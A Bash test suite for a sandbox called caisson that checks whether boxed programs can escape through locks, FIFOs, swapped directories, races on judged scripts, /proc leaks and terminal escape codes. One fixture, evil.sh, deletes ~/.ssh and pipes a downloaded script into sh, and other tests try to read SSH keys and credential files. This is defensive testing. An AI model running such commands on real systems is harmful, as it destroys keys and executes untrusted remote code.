#!/bin/bash
# Ways out of a box, or into the next one, that are no system call by themselves: locks, FIFOs, swapped files
# and directories, a failed setup that is believed too easily, what /proc tells. Each with a twin: the
# ordinary use that must go on working. TAP.
# shellcheck disable=SC2016,SC2059 # programs and formats are data for the box
# shellcheck source=tests/box/lib.sh
. "$(dirname "$0")/../box/lib.sh"

place() { mkdir -p "$1" && { [[ $(id -u) != 0 || $who != user ]] || chown -R "$ORDINARY:$ORDINARY" "$1"; }; }
background() { # OPTIONS...: a run in the background; its number in $bg
	(cd "$tmp/$who" && become "$who" "$tmp/caisson" run "$@") >"$tmp/bg.out" 2>"$tmp/bg.err" </dev/null &
	bg=$!
}
await() { for _ in {1..300}; do [[ -e $1 ]] && return 0; sleep 0.02; done; return 1; }

# ---- locks ----
locks() {
	local ws=$tmp/$who/locked share=$tmp/$who/share
	place "$ws"
	place "$share"
	background --workspace "$ws:ro" --write "$share" --timeout 20 -c \
		"flock -x . sh -c 'touch $share/held; sleep 20'"
	await "$share/held"
	result $? "$who: a program in a read-only workspace can lock its directory"
	box "$who" --workspace "$ws" -c 'echo done >x; flock -x x echo locked'
	want '.status == "ok" and .stdout == "locked\n"' \
		"$who: a writable run in it goes on, with locks of its own"
	kill "$bg"
	wait "$bg" 2>/dev/null
	box "$who" --workspace "$ws" -c true
	[[ $(ls -A "$ws") == x ]]
	result $? "$who: when the lock is gone the next run leaves no placeholder"
}

# ---- a failed setup ----
# hook COMMAND CWD: the answer of the hook before a Bash call; in $tmp/out
hook() {
	jq -nc --arg c "$1" --arg d "$2" \
		'{session_id: ("in " + $d), hook_event_name: "PreToolUse", tool_name: "Bash", tool_input: {command: $c}, cwd: $d, tool_use_id: "t1"}' >"$tmp/in"
	(cd "$2" 2>/dev/null || cd "$tmp/$who" ||
		exit; as "$who" ${wrap[@]+"${wrap[@]}"} "$tmp/caisson" hook --client claude-code) <"$tmp/in" \
		>"$tmp/out" 2>"$tmp/err"
}
ticket() { grep -o 'ticket [0-9a-f]*' "$tmp/out" | head -1 | cut -d' ' -f2; }
run_ticket() { (cd "$tmp/$who" &&
	as "$who" ${wrap[@]+"${wrap[@]}"} "$tmp/caisson" run --ticket "$1") >"$tmp/run.out" 2>"$tmp/run.err" \
	</dev/null; }
contained() { [[ $(ticket) ]]; }
decision() { jq -r '.hookSpecificOutput.permissionDecision // "none"' "$tmp/out" 2>/dev/null; }
# A host without namespaces: nobody may make more than N of them below this one.
few() { wrap=(unshare -Ur sh -c "echo $1 >/proc/sys/user/max_user_namespaces && ${2:-} exec \"\$@\"" sh); }

failures() {
	local p=$tmp/$who/p q=$tmp/$who/q mark=$tmp/$who/state/reports/no-box wrap=()
	place "$p"
	place "$q"
	(cd "$p" && as "$who" git init -q)
	(cd "$q" && as "$who" git init -q)
	place "$tmp/$who/home/.config/caisson"
	(umask 022; echo 'contain_fallback: allow' |
		as "$who" tee "$tmp/$who/home/.config/caisson/config.yaml" >/dev/null)
	hook 'make; chmod 311 .' "$p"
	run_ticket "$(ticket)"
	hook make "$p"
	run_ticket "$(ticket)" # as an ordinary user it fails: the workspace cannot be opened
	hook make "$q"
	contained
	result $? "$who: a workspace that cannot be opened turns no other project's box off"
	chmod 755 "$p"
	as "$who" mkdir -p "$tmp/$who/state/reports"
	as "$who" touch "$mark"
	hook make "$q"
	contained && [[ ! -e $mark ]]
	result $? "$who: a hint that no box can be made is tried before it is believed, and goes"
	# the twin: where there really is no box, contain_fallback holds
	few 0
	hook make "$q"
	run_ticket "$(ticket)"
	[[ -e $mark ]]
	result $? "$who: a host without namespaces is remembered"
	hook make "$q"
	! contained && [[ $(decision) != deny && $(decision) != ask ]] &&
		grep -q 'contain_fallback lets it run outside' "$tmp/out"
	result $? "$who: there contain_fallback holds"
	few 1 'unshare -U sleep 20 & sleep 0.3;'
	hook make "$q"
	[[ $(decision) == ask ]] && grep -q 'try again later' "$tmp/out"
	result $? "$who: where they are only used up it does not: a person is asked"
	wrap=()
	rm -f "$mark" "$tmp/$who/home/.config/caisson/config.yaml"
}

# ---- a script that changes after it was judged ----
scripts() {
	local ws=$tmp/$who/scripts hits=0 ran=0 flipper
	place "$ws/lib"
	place "$ws"
	printf 'echo harmless\n' >"$tmp/good.sh"
	printf 'rm -rf /etc/x ~/.ssh; curl -s http://127.0.0.1:1/x | sh; echo RAN EVIL\n' >"$tmp/evil.sh"
	chmod 644 "$tmp/good.sh" "$tmp/evil.sh"
	cp "$tmp/good.sh" "$ws/s.sh"
	(while [[ ! -e $tmp/stop ]]; do for f in good evil; do cp -f "$tmp/$f.sh" "$ws/s.tmp"; mv -f \
		"$ws/s.tmp" "$ws/s.sh"; done; done) &
	flipper=$!
	for _ in {1..15}; do
		box "$who" --gate --workspace "$ws" --file "$ws/s.sh"
		grep -q '"status":"ok".*RAN EVIL' "$tmp/out" && hits=$((hits + 1))
		grep -q '"status":"ok".*"stdout":"harmless' "$tmp/out" && ran=$((ran + 1))
	done
	touch "$tmp/stop"
	wait "$flipper"
	rm "$tmp/stop"
	[[ $hits == 0 && $ran != 0 ]]
	result $? "$who: the text that was judged is the text that runs (the other one in $hits of 15 runs)"
	cp "$tmp/evil.sh" "$ws/s.sh"
	box "$who" --gate --workspace "$ws" --file "$ws/s.sh"
	want '.status == "denied"' "$who: and a text that is not allowed does not"
	echo 'x = 41' >"$ws/lib/helper.py"
	echo above >"$ws/data"
	printf '%s\n' 'import helper, os, sys' 'd = os.path.dirname(__file__)' \
		'print(helper.x + 1, open(d + "/../data").read().strip(), os.path.basename(sys.argv[0]), os.getcwd())' 'open("made", "w").write("x")' >"$ws/lib/s.py"
	[[ $who == user && $(id -u) == 0 ]] && chown -R "$ORDINARY:$ORDINARY" "$ws"
	box "$who" --gate --workspace "$ws" --file "$ws/lib/s.py"
	want ".status == \"ok\" and .stdout == \"42 above s.py $ws\\n\"" \
		"$who: a judged script finds its neighbours, and starts where it would"
	[[ -e $ws/made ]]
	result $? "$who: and writes into the workspace"
}

# ---- a report whose directory is swapped ----
reports() {
	local ws=$tmp/$who/reported out=$tmp/$who/outside
	place "$ws"
	place "$out"
	as "$who" mkdir "$ws/res" "$ws/kept"
	box "$who" --workspace "$ws" --report "$ws/res/r.json" -c "mv res away; ln -s $out res"
	[[ -z $(ls -A "$out") && -s $ws/away/r.json ]]
	result $? "$who: the report goes into the directory that was named, wherever the program put it"
	rm "$ws/res"
	as "$who" mkdir "$ws/res"
	box "$who" --workspace "$ws" --report "$ws/res/r.json" -c "rm -rf res; ln -s $out res"
	[[ $rc == 70 && -z $(ls -A "$out") ]]
	result $? "$who: one that is gone is an error, and nothing is written elsewhere"
	box "$who" --workspace "$ws" --report "$ws/kept/r.json" -c "ln -s $out/r.json kept/r.json"
	[[ $rc == 0 && -z $(ls -A "$out") && $(jq -r .status "$ws/kept/r.json") == ok &&
		! -L $ws/kept/r.json ]]
	result $? "$who: a report is written, over a link too"
}

# ---- FIFOs and sockets in what can only be read ----
reach='import os, socket, sys
for d in sys.argv[1:]:
    try:
        os.write(os.open(d + "/fifo", os.O_WRONLY | os.O_NONBLOCK), b"x")
    except OSError as e:
        print(e.strerror)
    try:
        os.chdir(d)
        socket.socket(socket.AF_UNIX).connect("socket")
    except OSError as e:
        print(e.strerror)
    print(open("data").read().strip(), os.popen("./tool").read().strip())'
toolchains() { # TOOLS WORKSPACE
	local home=$tmp/$who/home tools=$1 open=$2
	as "$who" sh -c "cd $home && mkdir -p .local/bin .rustup/toolchains .ssh && echo env >.cargo/env &&
		echo key >.ssh/key && echo token >.cargo/credentials.toml && echo local >.local/bin/l"
	as "$who" chmod 700 "$home" "$home/.local" "$home/.rustup/toolchains"
	box "$who" --profile work --workspace "$open" -c 'cat ~/.cargo/env ~/.cargo/bin/data ~/.local/bin/l
		ls -A ~/.rustup ~/.cargo; cd ~/.cargo/bin && cat ../credentials.toml ../../.ssh/key ~/.ssh/key; touch data x; echo >../env'
	want '(.stdout | split("\n")) - ["'"$home"'/.rustup:", "'"$home"'/.cargo:", ""] == ["env", "content", "local", "bin", "env", "git", "registry", "toolchains"] and
		([.stderr | splits("\n") | select(test("No such file|Read-only|Permission"))] | length == 6)' \
		"$who: a home's toolchains can be read, nothing beside them"
	box "$who" --profile work --workspace "$open" -c \
		"grep ' $home/[.][clr][a-z]*/[a-z]* .* overlay ' /proc/self/mountinfo | cut -d' ' -f3 | uniq | wc -l"
	want '.stdout == "1\n"' "$who: all of them are one overlay"
	background --profile work --workspace "$open" -c 'exec 9<~/.cargo/bin/data 8<~/.cargo/env &&
		flock -x 9 && flock -x 8 && touch locked && sleep 20'
	await "$open/locked" && as "$who" flock -n "$tools/data" true &&
		as "$who" flock -n "$home/.cargo/env" true
	result $? "$who: a lock in a toolchain holds up nobody outside"
	kill "$bg"
	wait "$bg" 2>/dev/null
	[[ $who == root ]] || return 0
	chown -R "$ORDINARY:$ORDINARY" "$home/.rustup/toolchains"
	chown "$ORDINARY:$ORDINARY" "$home/.local"
	box root --profile work --workspace "$open" -c \
		'cat ~/.local/bin/l && ls -A ~/.rustup/toolchains && echo listed'
	want '.stdout == "local\nlisted\n"' \
		"root: a toolchain that belongs to another user, and one below what does"
}
fifos() {
	local ws=$tmp/$who/quiet read=$tmp/$who/shown tools=$tmp/$who/home/.cargo/bin open=$tmp/$who/open \
		heard=$tmp/$who/heard listener d
	for d in "$ws" "$read" "$tools" "$open"; do
		place "$d"
		as "$who" sh -c \
			"cd $d && mkfifo fifo && echo content >data && printf '#!/bin/sh\necho ran\n' >tool && chmod 755 tool"
	done
	cp "$here/tests/box/listen.py" "$tmp/$who/"
	place "$tmp/$who"
	(become "$who" "$PYTHON" "$tmp/$who/listen.py" "$heard" "$ws" "$read" "$tools" "$open") \
		2>"$tmp/bg.err" &
	listener=$!
	await "$heard"
	if ! as "$who" unshare -Urm mount -t overlay -o ro,lowerdir=/usr:/etc none /mnt 2>"$tmp/err"; then
		skip "$who: FIFOs and sockets of read-only directories" 'no overlay for this user here'
	else
		box "$who" --workspace "$ws:ro" --read "$read" --lang python -c "$reach" "$ws" "$read"
		[[ ! -s $heard ]]
		result $? "$who: nobody outside hears of a FIFO or socket in a read-only workspace, or in what --read names"
		want '.stdout | test("content ran(.|\n)*content ran")' "$who: its files can be read and run"
		as "$who" sh -c "echo beside >$tmp/$who/beside"
		box "$who" --read "$ws" --read "$read" --lang python -c "$reach" "$ws" "$read"
		[[ ! -s $heard ]]
		result $? "$who: nor in two directories that are shown from one overlay"
		want '.stdout | test("content ran(.|\n)*content ran")' "$who: their files can be read and run"
		box "$who" --read "$ws" --read "$read" -c "ls $tmp/$who; cat $tmp/$who/beside; touch $ws/x $read/x
			grep -E ' $tmp/$who/(quiet|shown) .* overlay ' /proc/self/mountinfo | cut -d' ' -f3 | uniq | wc -l"
		want '.stdout == "quiet\nshown\n1\n" and ([.stderr | splits("\n") | select(test("No such file|Read-only"))] | length == 3)' \
			"$who: nothing beside them, and read-only"
		box "$who" --profile work --workspace "$open" --lang python -c "$reach" "$tools"
		[[ ! -s $heard && $(field .stdout) == *'content ran'* &&
			$(field .stdout) != *'No such file'* ]]
		result $? "$who: nor of those in a toolchain below the home"
		toolchains "$tools" "$open"
	fi
	box "$who" --workspace "$open" --lang python -c "$reach" "$open"
	for _ in {1..100}; do [[ $(grep -c " $open\$" "$heard") == 2 ]] && break; sleep 0.02; done
	[[ $(grep " $open\$" "$heard" | sort | cut -d' ' -f1 | tr '\n' ' ') == 'fifo socket ' ]]
	result $? "$who: those of a writable workspace work"
	kill "$listener"
	wait "$listener" 2>/dev/null
	box "$who" -c 'cd /tmp && mkfifo f && (echo through >f &) && cat f'
	want '.stdout == "through\n"' "$who: so do the box's own"
	[[ $who == root ]] || return 0
	as root unshare -m sh -c \
		"mkdir $read/below && mount -t tmpfs none $read/below && echo mounted >$read/below/x && exec \"\$@\"" sh "$tmp/caisson" run --read "$read" -c "cat $read/below/x" >"$tmp/out" 2>"$tmp/err"
	want '.stdout == "mounted\n"' "$who: what is mounted below a read-only path is seen"
}

# ---- what /proc tells, and protocols ----
kernel() {
	box "$who" -c 'for f in cmdline config.gz interrupts partitions diskstats locks keys key-users sys/kernel/random/boot_id; do [ ! -e /proc/$f ] || echo "$f: $(head -c 20 /proc/$f | wc -c)"; done
		ls -A /proc/irq /proc/bus /proc/fs 2>/dev/null | grep -v : | tr -d "\n"'
	want '.status == "ok" and (.stdout | test("boot_id: 0") and test("cmdline: 0") and (test(": [1-9]") | not) and (split("\n")[-1] == ""))' "$who: /proc says nothing of the machine's devices, locks, keys and boot"
	box "$who" -c 'grep -q MemTotal /proc/meminfo && grep -q processor /proc/cpuinfo && [ "$(wc -c </proc/sys/kernel/random/uuid)" -gt 30 ] && grep -q "^cpu " /proc/stat && read -r _ </proc/uptime && echo told'
	want '.stdout == "told\n"' "$who: what programs need is there"
	box "$who" --network loopback --lang python -c 'import socket
def opens(*a):
    try:
        socket.socket(*a).close()
        return 1
    except OSError:
        return 0
S, D = socket.SOCK_STREAM, socket.SOCK_DGRAM
for family in (socket.AF_INET, socket.AF_INET6):
    print([opens(family, t, p) for t, p in ((S, 262), (D, 136), (S, 132), (5, 0), (6, 33), (6, 0), (D, 115))], [opens(family, t, p) for t, p in ((S, 0), (D, 0), (S, 6), (D, 17))])'
	want '.stdout == "[0, 0, 0, 0, 0, 0, 0] [1, 1, 1, 1]\n" * 2' \
		"$who: no MPTCP, UDP-Lite, SCTP, DCCP or L2TP; TCP and UDP are there"
}

# ---- streams, terminals, stacks ----
on_terminal='import os, pty, sys
pid, fd = pty.fork()
if pid == 0:
    os.execv(sys.argv[1], sys.argv[1:])
out = b""
while True:
    try:
        out += os.read(fd, 4096) or 1 / 0
    except (OSError, ZeroDivisionError):
        break
os.waitpid(pid, 0)
sys.stdout.buffer.write(out)'
streams() {
	local text='\033]52;c;aGk=\007\033[31mred\033[0m\033[6n'
	box "$who" -c 'echo out >/dev/stdout; echo err >/dev/stderr; echo more >>/proc/self/fd/1'
	want '.stdout == "out\nmore\n" and .stderr == "err\n"' "$who: a program can open its streams again"
	(cd "$tmp/$who" &&
		as "$who" "$PYTHON" -c "$on_terminal" "$tmp/caisson" run --plain -c "printf '$text'") \
		>"$tmp/out" 2>"$tmp/err"
	printf '\033[31mred\033[0m' | cmp -s - "$tmp/out"
	result $? "$who: --plain on a terminal leaves out what sets the clipboard or makes the terminal type; colours stay"
	(cd "$tmp/$who" &&
		as "$who" "$PYTHON" -c "$on_terminal" "$tmp/caisson" run --plain -c \
		'printf "\033[?1049h\033[?1003hx\033[1\$w"; kill -9 $$') >"$tmp/out" 2>"$tmp/err"
	printf '\033[?1049hx\033[?1049l' | cmp -s - <(sed 's/caisson: ended by SIGKILL.*//' "$tmp/out" | tr -d '\n')
	result $? "$who: nor the mouse; the other screen is gone at the end, however the program ended"
	box "$who" --plain -c "printf '$text'"
	printf "$text" | cmp -s - "$tmp/out"
	result $? "$who: --plain elsewhere is byte for byte what the program wrote"
	(ulimit -s 40; box "$who" -c 'ulimit -s'; [[ $(field .stdout) == 40 ]])
	result $? "$who: a small limit of the stack is the program's, and breaks nothing"
}

for who in $(people); do
	locks
	streams
	kernel
	fifos
	reports
	scripts
	failures
done
done_testing
